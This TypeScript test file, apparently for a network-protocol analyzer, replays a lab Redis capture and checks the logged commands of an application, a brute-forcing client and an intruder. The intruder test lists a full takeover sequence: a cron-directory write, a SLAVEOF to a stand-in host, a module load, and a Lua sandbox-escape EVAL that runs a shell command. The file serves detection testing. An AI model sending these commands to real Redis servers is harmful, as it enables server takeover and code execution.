/**
 * Redis in a real capture (the lab's redis.pcap: redis-server 7.0 with a
 * password, redis-cli as an application and as an intruder, hydra 9.4
 * guessing): the commands each client sent and the server's answers, in
 * order, as the lab script ran them; the sign-ins as the server decided
 * them; no password anywhere in the log.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { replayEvents } from '../../helpers/replay.js';
import { REPO_ROOT } from '../../helpers/paths.js';
import type { RedisLogEvent } from '../../../src/protocols/redis/events.js';
import type { AuthEvent } from '../../../src/events/auth.js';

const CAPTURE = path.join(REPO_ROOT, 'test', 'lab', 'captures', 'redis.pcap');

let cached: Promise<{ logs: RedisLogEvent[]; auths: AuthEvent[]; services: Map<string, string | undefined> }> | undefined;
function events() {
  cached ??= replayEvents([CAPTURE]).then((all) => ({
    logs: all.flatMap((e) => (e.type === 'redis' ? [e] : [])),
    auths: all.flatMap((e) => (e.type === 'auth' ? [e] : [])),
    services: new Map(all.flatMap((e) => (e.type === 'flow.end' ? [[e.record.uid, e.record.service] as [string, string | undefined]] : []))),
  }));
  return cached;
}

test('the application server: signs in, sets, reads and counts', async () => {
  const { logs } = await events();
  const app = logs.filter((e) => e.record['id.orig_h'] === '10.77.2.22').map((e) => [e.record['cmd.name'], e.record['cmd.key'], e.record.success, e.record['reply.value']]);
  assert.deepEqual(app, [
    ['AUTH', '********', true, 'OK'],
    ['SET', 'session:42', true, 'OK'],
    ['AUTH', '********', true, 'OK'],
    ['GET', 'session:42', true, '{"user":"jdoe"}'],
    ['AUTH', '********', true, 'OK'],
    ['INCR', 'hits', true, '1'],
  ]);
});

test('the intruder: every step of the takeover, with what the server answered', async () => {
  const { logs } = await events();
  const steps = logs
    .filter((e) => e.record['id.orig_h'] === '10.77.2.26' && e.record['cmd.name'] !== 'AUTH')
    .map((e) => [e.record['cmd.name'], e.record['cmd.key'], e.record.success]);
  assert.deepEqual(steps, [
    ['CONFIG SET', 'dir', true],
    ['CONFIG SET', 'dbfilename', true],
    ['SET', 'payload', true],
    ['SAVE', undefined, true],
    ['SLAVEOF', '198.51.100.10', true],
    ['SLAVEOF', 'NO', true],
    ['MODULE LOAD', '/tmp/exp.so', false],
    ['EVAL', 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res', false],
  ]);
  const dir = logs.find((e) => e.record['cmd.name'] === 'CONFIG SET' && e.record['cmd.key'] === 'dir')!;
  assert.equal(dir.record['cmd.value'], '/var/spool/cron/crontabs');
});

test('the sign-ins as the server decided them, every password kept out of the log', async () => {
  const { logs, auths, services } = await events();
  const redis = auths.filter((e) => e.service === 'redis');
  const count = (client: string, outcome: string) => redis.filter((e) => e.client === client && e.outcome === outcome).length;
  assert.deepEqual([count('10.77.2.22', 'success'), count('10.77.2.26', 'success'), count('10.77.2.24', 'failure'), count('10.77.2.24', 'success')], [3, 8, 30, 0]);
  assert.ok(redis.every((e) => e.cleartext === true));
  assert.ok(redis.filter((e) => e.outcome === 'failure').every((e) => e.detail!.startsWith('WRONGPASS')));
  const text = JSON.stringify(logs);
  for (const secret of ['Cache-Pass-2026', 'redis01', 'redis30']) assert.ok(!text.includes(secret), secret);
  for (const e of logs) assert.equal(services.get(e.uid), 'redis');
});
